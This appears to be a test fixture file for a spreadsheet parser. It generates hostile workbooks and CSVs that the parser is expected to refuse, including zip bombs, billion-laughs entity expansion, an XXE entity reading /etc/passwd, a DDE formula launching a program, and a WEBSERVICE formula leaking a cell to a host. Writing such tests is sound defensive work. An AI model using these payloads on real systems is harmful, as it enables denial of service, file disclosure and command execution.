import { randomBytes } from 'node:crypto';
import type { RefusalReason } from '../SpreadsheetRefusal.ts';
import { columnLetters } from '../xlsx/cellPlaces.ts';
import { forgeWorkbook, SHEET_HEAD, SHEET_PART, STRINGS_PART } from './forgeWorkbook.ts';
import { partOf, repeatedPart } from './zipOf.ts';

interface Bomb {
  readonly reason: RefusalReason;
  readonly make: () => Buffer;
}

const ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>王晓岚</t></is></c></row>';
const SHARED = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>';
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">${Array.from(
  'bcdefghij',
  (name, index) => `<!ENTITY ${name} "${`&${'abcdefghij'[index]};`.repeat(10)}">`,
).join('')}]>`;
const each = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => make(index)).join('');
const rows = (count: number, cells: (row: number) => string) =>
  each(count, (index) => `<row r="${index + 1}">${cells(index + 1)}</row>`);
const letters = Array.from({ length: 100 }, (_, index) => columnLetters(index));
const spaces = (megabytes: number, head = SHEET_HEAD) => repeatedPart(SHEET_PART, { head, unit: ' ', megabytes });
const formula = (text: string) => `<row r="1"><c r="A1" t="str"><f>${text}</f><v>1</v></c></row>`;

/** Files that would take the memory or the time of a reader that believes them. */
export const bombs = {
  'a gigabyte of spaces': { reason: 'zipBomb', make: () => forgeWorkbook({ sheet: spaces(1000) }) },
  'a gigabyte that calls itself a kilobyte': {
    reason: 'zipBomb',
    make: () => forgeWorkbook({ sheet: { ...spaces(1000), size: 1000 } }),
  },
  'a hundred megabytes of spaces, as told': { reason: 'zipBomb', make: () => forgeWorkbook({ sheet: spaces(100) }) },
  'five thousand parts': {
    reason: 'zipBomb',
    make: () =>
      forgeWorkbook({ sheet: ROW, others: Array.from({ length: 5000 }, (_, n) => partOf(`xl/media/${n}`, '')) }),
  },
  'a hundred megabytes of styles': {
    reason: 'zipBomb',
    make: () =>
      forgeWorkbook({
        sheet: ROW,
        change: { 'xl/styles.xml': (xml) => xml.replace('<fonts', `${'<font/>'.repeat(2_000_000)}<fonts`) },
      }),
  },
  'a million shared texts': {
    reason: 'sharedStrings',
    make: () => forgeWorkbook({ sheet: SHARED, strings: '<si><t>x</t></si>'.repeat(900_000) }),
  },
  'a shared text of 8 megabytes': {
    reason: 'cellTooLong',
    make: () => forgeWorkbook({ sheet: SHARED, strings: `<si><t>${randomBytes(4_000_000).toString('hex')}</t></si>` }),
  },
  'one text of a megabyte in 12,000 cells': {
    reason: 'cellTooLong',
    make: () =>
      forgeWorkbook({
        sheet: rows(4000, (row) => `<c r="A${row}" t="s"><v>0</v></c>`.repeat(3)),
        strings: `<si><t>${'x'.repeat(1_000_000)}</t></si>`,
      }),
  },
  'three hundred megabytes of shared texts': {
    reason: 'sharedStrings',
    make: () =>
      forgeWorkbook({
        sheet: SHARED,
        strings: repeatedPart(STRINGS_PART, { head: '<sst>', unit: '<si><t>王晓岚</t></si>', megabytes: 190 }),
      }),
  },
  'a million rows': {
    reason: 'tooManyRows',
    make: () => forgeWorkbook({ sheet: rows(1_000_000, (row) => `<c r="A${row}"><v>${row}</v></c>`) }),
  },
  'a million rows without anything': {
    reason: 'tooManyRows',
    make: () => forgeWorkbook({ sheet: rows(1_000_000, () => '') }),
  },
  'three hundred thousand cells without anything': {
    reason: 'tooManyCells',
    make: () =>
      forgeWorkbook({ sheet: rows(3000, (row) => letters.map((letter) => `<c r="${letter}${row}" s="1"/>`).join('')) }),
  },
  'a million elements of no meaning': {
    reason: 'tooManyCells',
    make: () => forgeWorkbook({ sheet: each(900_000, (n) => `<x a="${n}"/>`) }),
  },
  'a hundred thousand elements in each other': {
    reason: 'broken',
    make: () => forgeWorkbook({ sheet: '<x>'.repeat(100_000) + '</x>'.repeat(100_000) }),
  },
  'a cell at the end of the world': {
    reason: 'tooManyColumns',
    make: () => forgeWorkbook({ sheet: '<row r="1"><c r="XFD1"><v>1</v></c></row>' }),
  },
  'a hundred thousand merged cells': {
    reason: 'tooManyMerges',
    make: () =>
      forgeWorkbook({
        sheet: ROW,
        after: `<mergeCells>${each(100_000, (n) => `<mergeCell ref="A${n + 1}:A${n + 2}"/>`)}</mergeCells>`,
      }),
  },
  'a billion laughs': {
    reason: 'entities',
    make: () =>
      forgeWorkbook({ sheet: partOf(SHEET_PART, LAUGHS + SHEET_HEAD.slice(38) + ROW.replace('王晓岚', '&j;')) }),
  },
  'an entity from a file of ours': {
    reason: 'entities',
    make: () =>
      forgeWorkbook({
        sheet: SHARED,
        strings: partOf(
          STRINGS_PART,
          '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst><si><t>&a;</t></si></sst>',
        ),
      }),
  },
  'a link to another workbook': {
    reason: 'externalLinks',
    make: () =>
      forgeWorkbook({ sheet: ROW, others: [partOf('xl/externalLinks/externalLink1.xml', '<externalLink/>')] }),
  },
  'data from the network': {
    reason: 'externalLinks',
    make: () => forgeWorkbook({ sheet: ROW, others: [partOf('xl/connections.xml', '<connections/>')] }),
  },
  'a project of macros': {
    reason: 'macros',
    make: () => forgeWorkbook({ sheet: ROW, others: [partOf('xl/vbaProject.bin', 'Sub Auto_Open()')] }),
  },
  'a workbook that may have macros': {
    reason: 'macros',
    make: () =>
      forgeWorkbook({
        sheet: ROW,
        change: {
          '[Content_Types].xml': (xml) =>
            xml.replace(
              /ContentType="[^"]*sheet\.main\+xml"/,
              'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"',
            ),
        },
      }),
  },
  'thirty thousand formulas': {
    reason: 'formulas',
    make: () => forgeWorkbook({ sheet: rows(5000, (row) => `<c r="A${row}"><f>1+1</f><v>2</v></c>`.repeat(6)) }),
  },
  'a formula of a megabyte': {
    reason: 'formulas',
    make: () => forgeWorkbook({ sheet: formula('1+'.repeat(500_000)) }),
  },
  'a formula that asks the network': {
    reason: 'formulas',
    make: () => forgeWorkbook({ sheet: formula('WEBSERVICE("http://example.com/?"&amp;A2)') }),
  },
  'a formula that starts a program': {
    reason: 'formulas',
    make: () => forgeWorkbook({ sheet: formula("cmd|'/c calc'!A1") }),
  },
  'a part with a password': {
    reason: 'encrypted',
    make: () => forgeWorkbook({ sheet: { ...partOf(SHEET_PART, SHEET_HEAD), isEncrypted: true } }),
  },
  'a csv of a million rows': { reason: 'tooManyRows', make: () => Buffer.from('a,b,c\n'.repeat(1_000_000)) },
  'a csv of a million line ends': { reason: 'tooManyRows', make: () => Buffer.from('\n'.repeat(1_000_000)) },
  'a csv whose quote never ends': {
    reason: 'cellTooLong',
    make: () => Buffer.from(`a,b\n1,"${'王'.repeat(3_000_000)}`),
  },
  'a csv of a million columns': { reason: 'tooManyColumns', make: () => Buffer.from(','.repeat(1_000_000) + '1') },
  'eleven megabytes': { reason: 'tooLarge', make: () => Buffer.alloc(11 * 1024 * 1024, 'a') },
} as const satisfies Record<string, Bomb>;
